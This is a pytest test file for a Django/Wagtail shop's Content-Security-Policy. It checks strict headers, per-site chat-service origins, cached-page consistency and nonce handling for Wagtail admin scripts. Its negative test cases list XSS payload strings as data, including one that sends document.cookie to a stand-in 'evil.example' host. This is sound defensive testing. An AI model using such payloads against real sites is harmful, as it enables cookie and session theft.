"""The Content-Security-Policy header the shop sends (django-csp, with contactkit.csp).

Every public page, the JSON API and the admin carry a policy without 'unsafe-inline': scripts
and styles from the site itself only. A site whose live chat is run by a third party (Crisp,
Tawk.to, Tidio) gets that service's origins on its own pages, and no other site does; the
policy follows a change of chat at once, and a page served from the page cache carries the
same policy as a fresh one. In the admin, a nonce lets Wagtail's own widget scripts run and
nothing else. What the browser makes of it is tests/browser/test_csp.py.
"""

import datetime as dt
import io
import re
from zoneinfo import ZoneInfo

import pytest
import time_machine
from bs4 import BeautifulSoup
from django.core.cache import caches
from django.core.management import call_command
from django.db import OperationalError, connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext, override_settings
from django.urls import reverse
from wagtail.models import Page, Site

from contactkit import csp
from contactkit.inbox import threads
from contactkit.inbox.models import Conversation
from contactkit.pages.models import ContactPage
from contactkit.profile.models import ContactChannel
from demoshop.home.models import HomePage
from tests.pages.builders import full_shop
from tests.pages.demo_html import PAGES, WRONG_FORM, demo_languages, valid_message
from tests.profile.builders import channel

pytestmark = pytest.mark.django_db

MADRID = ZoneInfo("Europe/Madrid")
MONDAY_NOON = dt.datetime(2026, 11, 23, 12, 0, tzinfo=MADRID)
HEADER = "Content-Security-Policy"


def parse_policy(header):
    """{directive: [source, …]} of a Content-Security-Policy header."""
    policy = {}
    for part in (header or "").split(";"):
        if part.strip():
            name, *sources = part.split()
            policy[name] = sources
    return policy


def assert_strict(header, *, where="", nonce=False):
    """The shop's policy: everything from the site itself, nothing inline.

    ``nonce``: the admin may also allow its own nonce for scripts (Wagtail's widgets); a
    public page never needs one (a page from the page cache could not carry it).
    """
    assert header, f"{where}: no Content-Security-Policy"
    policy = parse_policy(header)
    assert "'unsafe-inline'" not in header, f"{where}: {header}"
    assert "'unsafe-eval'" not in header, f"{where}: {header}"
    assert policy["default-src"] == ["'self'"], where
    assert policy["style-src"] == ["'self'"], f"{where}: {header}"
    assert policy["object-src"] == ["'none'"], where
    assert policy["base-uri"] == ["'self'"], where
    assert policy["form-action"] == ["'self'"], where
    assert policy["frame-ancestors"] == ["'self'"], where
    scripts = policy["script-src"]
    assert scripts[0] == "'self'", f"{where}: {header}"
    if nonce:
        assert all(re.fullmatch(r"'nonce-[\w+/=]+'", source) for source in scripts[1:]), where
        assert len(scripts) <= 2, where
    else:
        assert scripts == ["'self'"], f"{where}: {header}"


def as_sets(header):
    return {name: set(sources) for name, sources in parse_policy(header).items()}


# --- every public page of the demo shop -----------------------------------------------------


def demo_headers(client):
    """{name: (status, Content-Security-Policy)} for every public demo page in both languages,
    with the states a shopper reaches by sending (as tests/pages/demo_html.py visits them)."""
    found = {}

    def keep(name, response):
        found[name] = (response.status_code, response.get(HEADER))

    for language in ("es", "en"):
        for name, paths in PAGES.items():
            keep(f"{name}-{language}", client.get(paths[language]))
        contact = PAGES["contact"][language]
        keep(f"contact-errors-{language}", client.post(contact, WRONG_FORM))
        number = 10 + len(found)
        response = client.post(contact, valid_message(number), follow=True)
        assert response.redirect_chain[-1][0].endswith("/thanks/"), response.redirect_chain
        keep(f"thanks-{language}", response)
        conversation = Conversation.objects.get(email=valid_message(number)["email"])
        thread = re.sub(r"^https?://[^/]+", "", threads.thread_url(conversation, language))
        keep(f"thread-{language}", client.get(thread))
        keep(f"thread-errors-{language}", client.post(thread, {"message": "", "website": ""}))
        keep(f"thread-new-link-{language}", client.get(f"{contact}conversation/link/"))
        keep(f"thread-tampered-{language}", client.get(thread[:-3] + "xx/"))
    return found


@pytest.fixture(scope="module")
def demo(django_db_setup, django_db_blocker, tmp_path_factory):
    """The headers of the demo's pages, gathered in a transaction rolled back at once (before
    the module's other tests, which build shops of their own)."""
    with (
        django_db_blocker.unblock(),
        override_settings(MEDIA_ROOT=tmp_path_factory.mktemp("media")),
        demo_languages(),
        transaction.atomic(),
    ):
        try:
            call_command("load_demo_shop", stdout=io.StringIO())
            site = Site.objects.get(is_default_site=True)
            site.hostname, site.port = "testserver", 80
            site.save()
            return demo_headers(Client())
        finally:
            transaction.set_rollback(True)
            for cache in caches.all():
                cache.clear()


def test_every_public_page_carries_the_strict_policy(demo):
    assert len(demo) == (len(PAGES) + 6) * 2, sorted(demo)
    for name, (status, header) in demo.items():
        assert status == (404 if name.startswith("thread-tampered") else 200), (name, status)
        assert_strict(header, where=name)


# --- the JSON API ---------------------------------------------------------------------------


@pytest.fixture
def shop(site, settings, tmp_path):
    """A full shop on the default site, with contactkit's own chat."""
    settings.MEDIA_ROOT = tmp_path
    pages = full_shop(site)
    channel(site, "chat", chat_provider="contactkit")
    return pages


def test_the_api_answers_with_the_strict_policy(client, site, shop):
    response = client.get(f"/contactkit/api/launcher?site={site.pk}&lang=es")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert_strict(response.get(HEADER), where="API")


def test_the_apis_docs_come_from_the_shop_itself(client):
    """django-ninja's docs page (Swagger UI): its own copy, no CDN, no inline script."""
    response = client.get("/contactkit/api/docs")
    assert response.status_code == 200
    assert_strict(response.get(HEADER), where="API docs")
    html = BeautifulSoup(response.content, "html.parser")
    for script in html.find_all("script"):
        assert script.get("src", "").startswith("/static/") or script.get("type") == (
            "application/json"
        ), script
    assert "cdn." not in response.content.decode()


# --- a third party's chat, per site ---------------------------------------------------------


def crisp_chat(site):
    [chat] = ContactChannel.objects.filter(site=site, kind="chat")
    return chat


def switch_chat(site, provider, account=""):
    """Change the site's chat as the admin does (a saved channel)."""
    chat = crisp_chat(site)
    chat.chat_provider, chat.chat_account = provider, account
    chat.full_clean()
    chat.save()


@pytest.fixture
def other_site(db):
    """A second shop on its own host, with contactkit's own chat."""
    home = Page.get_first_root_node().add_child(instance=HomePage(title="Otra", slug="otra"))
    other = Site.objects.create(hostname="otra.example", port=80, root_page=home)
    home.add_child(instance=ContactPage(title="Contacto", slug="contacto"))
    channel(other, "chat", chat_provider="contactkit")
    return other


def page_policy(path, host="testserver"):
    with time_machine.travel(MONDAY_NOON, tick=False):
        response = Client(HTTP_HOST=host).get(path)
    assert response.status_code == 200, (path, response.status_code)
    return response


def test_a_site_with_a_crisp_chat_allows_crisp_on_its_pages(site, shop, other_site):
    switch_chat(site, "crisp", "5f3c9a2b-demo")
    for path in ("/", shop["contacto"].url, shop["quienes-somos"].url):
        header = page_policy(path)[HEADER]
        policy = parse_policy(header)
        # Crisp's loader and settings, its live connection, its images.
        assert {"https://client.crisp.chat", "https://settings.crisp.chat"} <= set(
            policy["script-src"]
        ), path
        assert "wss://client.relay.crisp.chat" in policy["connect-src"], path
        assert "https://image.crisp.chat" in policy["img-src"] or (
            "https://*.crisp.chat" in policy["img-src"]
        )
        # The site's own sources stay: the launcher still reaches the shop's API, and so on.
        for directive in ("script-src", "style-src", "img-src", "connect-src", "font-src"):
            assert policy[directive][0] == "'self'", (path, directive, policy[directive])
        for directive in ("media-src", "frame-src", "worker-src"):
            assert policy[directive][0] == "'self'", (path, directive, policy[directive])
        # Still no inline script, and nothing of the other services.
        assert "'unsafe-inline'" not in policy["script-src"], path
        assert "tawk" not in header and "tidio" not in header, path


def test_a_site_without_one_allows_no_chat_service(site, shop, other_site):
    switch_chat(site, "crisp", "5f3c9a2b-demo")
    response = page_policy("/contacto/", host="otra.example")
    assert "crisp" not in response[HEADER]
    assert_strict(response[HEADER], where="the other site")


def test_the_policy_follows_a_change_of_chat_at_once(site, shop):
    contact = shop["contacto"].url
    switch_chat(site, "crisp", "5f3c9a2b-demo")
    assert "https://client.crisp.chat" in page_policy(contact)[HEADER]
    switch_chat(site, "tawkto", "5f3c9a2b/default")
    header = page_policy(contact)[HEADER]
    assert "https://embed.tawk.to" in parse_policy(header)["script-src"]
    assert "crisp" not in header
    switch_chat(site, "tidio", "abcdefghijklmnop")
    header = page_policy(contact)[HEADER]
    assert "https://code.tidio.co" in parse_policy(header)["script-src"]
    assert "tawk" not in header
    switch_chat(site, "contactkit")
    assert_strict(page_policy(contact)[HEADER], where="own chat again")


def test_a_page_from_the_page_cache_carries_the_same_policy_at_no_query(site, shop):
    switch_chat(site, "crisp", "5f3c9a2b-demo")
    contact = shop["contacto"].url
    page_policy(contact)  # the site's settings are made on the first visit: a change
    first = page_policy(contact)
    with CaptureQueriesContext(connection) as queries:
        second = page_policy(contact)
    assert second["X-Contactkit-Cache"] == "hit"
    assert len(queries) == 0, [query["sql"] for query in queries.captured_queries]
    assert as_sets(second[HEADER]) == as_sets(first[HEADER])
    assert "https://client.crisp.chat" in second[HEADER]


def test_the_api_and_the_admin_get_no_chat_service(site, shop, admin_client):
    switch_chat(site, "crisp", "5f3c9a2b-demo")
    api = Client().get(f"/contactkit/api/launcher?site={site.pk}&lang=es")
    assert api.status_code == 200 and "crisp" not in api[HEADER]
    inbox = admin_client.get(reverse("contactkit_inbox:index"))
    assert inbox.status_code == 200
    assert "crisp" not in inbox[HEADER]


def test_when_the_database_cannot_say_the_strict_policy_stands(site, shop, monkeypatch):
    def unavailable(request):
        raise OperationalError("the database is down")

    monkeypatch.setattr(csp, "chat_providers", unavailable)
    response = Client().get(shop["contacto"].url)
    assert response.status_code == 200
    assert_strict(response[HEADER], where="database down")


# --- media stored elsewhere -------------------------------------------------------------------


def test_media_on_another_origin_is_allowed_for_images(site, shop, settings):
    contact = shop["contacto"].url
    assert parse_policy(page_policy(contact)[HEADER])["img-src"] == ["'self'", "data:"]
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"base_url": "https://media.ceramica.example/media/"},
        },
    }
    for cache in caches.all():
        cache.clear()
    policy = parse_policy(page_policy(contact)[HEADER])
    assert policy["img-src"] == ["'self'", "data:", "https://media.ceramica.example"]
    assert policy["media-src"] == ["'self'", "https://media.ceramica.example"]
    assert "'unsafe-inline'" not in policy["script-src"] + policy["style-src"]


# --- the admin: Wagtail's own widget scripts, and nothing else ------------------------------


def inline_scripts(response):
    html = BeautifulSoup(response.content, "html.parser")
    return [
        script
        for script in html.find_all("script")
        if not script.get("src") and script.get("type", "text/javascript") == "text/javascript"
    ]


def test_the_inbox_needs_no_nonce(admin_client, shop):
    response = admin_client.get(reverse("contactkit_inbox:index"))
    assert response.status_code == 200
    assert_strict(response[HEADER], where="inbox")
    assert inline_scripts(response) == []


def test_wagtails_widget_scripts_get_the_nonce_of_their_response(admin_client, shop, site):
    phone = ContactChannel.objects.filter(site=site, kind="phone").first()
    edit = reverse("wagtailsnippets_contactkit_contactchannel:edit", args=[phone.pk])
    nonces = []
    for _ in range(2):
        response = admin_client.get(edit)
        assert response.status_code == 200
        header = response[HEADER]
        assert_strict(header, where="channel", nonce=True)
        [nonce] = re.findall(r"'nonce-([^']+)'", header)
        scripts = inline_scripts(response)
        # The chooser of the form's page, the opening hours' rows, their time pickers.
        bodies = " ".join(script.string or "" for script in scripts)
        assert "new PageChooser(" in bodies and "new InlinePanel(" in bodies
        for script in scripts:
            assert script.get("nonce") == nonce, script
            assert csp.is_wagtail_initializer(script.string), script
        nonces.append(nonce)
    assert nonces[0] != nonces[1]
    assert int(response["Content-Length"]) == len(response.content)


@pytest.mark.parametrize(
    "body",
    [
        'new PageChooser("id_page", {"modelNames": ["wagtailcore.page"], "canChooseRoot": false});',
        'new ImageChooser("id_logo", {"modalUrl": "/admin/images/chooser/"});',
        'initDateChooser("id_exceptions\\u002D__prefix__\\u002Ddate", {"dayOfWeekStart": 1});',
        'initTimeChooser("id_hours\\u002D0\\u002Dopens", {"format": "H:i"});',
        'createTaskChooser("id_task");',
        '\n  (function() {\n    var panel = new InlinePanel(JSON.parse("{\\u0022type\\u0022: '
        '\\u0022inline\\u0022}"));\n  })();\n',
    ],
)
def test_wagtails_own_initializers_are_recognised(body):
    html, count = csp.nonce_wagtail_scripts(f"<p>x</p><script>{body}</script>", lambda: "N0")
    assert count == 1
    assert html == f'<p>x</p><script nonce="N0">{body}</script>'


@pytest.mark.parametrize(
    "body",
    [
        "alert(document.cookie)",
        'new PageChooser("id_page", alert(1));',
        'new PageChooser("id_page", {}); fetch("https://evil.example/" + document.cookie);',
        'initDateChooser("id_x", {"a": 1}), alert(1);',
        'new Function("alert(1)")();',
        'window.PageChooser("id_page", {});',
        '(function() { var panel = new InlinePanel(JSON.parse("x" + alert(1))); })();',
        '(function() { var panel = new InlinePanel(JSON.parse("{}")); alert(1); })();',
        "new PageChooser(`id_${alert(1)}`, {});",
    ],
)
def test_no_other_inline_script_gets_the_nonce(body):
    page = f"<script>{body}</script><script src='/static/x.js'></script>"
    assert csp.nonce_wagtail_scripts(page, lambda: "N0") == (page, 0)


def test_a_script_with_attributes_is_left_as_it_is():
    """Only Wagtail's bare <script> elements are looked at: anything that already says what it
    is (a type, a src, a nonce of its own) is not touched."""
    page = '<script type="application/json">{"a": 1}</script><script nonce="x">alert(1)</script>'
    assert csp.nonce_wagtail_scripts(page, lambda: "N0") == (page, 0)


def test_a_page_without_wagtails_scripts_asks_for_no_nonce():
    """No nonce is made for a page that does not need one, so its header names none."""
    asked = []
    page = "<main><p>Hola</p><script src='/static/x.js'></script></main>"
    assert csp.nonce_wagtail_scripts(page, lambda: asked.append(1) or "N0") == (page, 0)
    assert asked == []
